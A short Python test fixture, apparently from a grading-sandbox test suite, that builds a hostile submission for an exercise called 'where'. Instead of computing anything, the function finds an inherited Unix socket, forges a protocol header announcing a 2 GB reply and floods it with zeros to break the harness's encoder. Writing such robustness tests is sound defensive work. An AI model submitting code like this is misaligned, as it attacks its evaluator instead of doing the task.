"""Announces a reply of 2 GB and sends zeros, past the protocol's encoder."""

from corpus import answering

EXERCISE = "where"
submission = answering(
    EXERCISE,
    """
import os
import socket
import stat
import struct


def where(tensor):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                channel = socket.socket(fileno=os.dup(fd))
                if channel.family == socket.AF_UNIX and channel.type == socket.SOCK_STREAM:
                    channel.sendall(struct.pack("!4sII", b"ASK1", 10, 2_000_000_000))
                    for _ in range(2000):
                        channel.sendall(bytes(1_000_000))
        except OSError:
            pass
""",
)
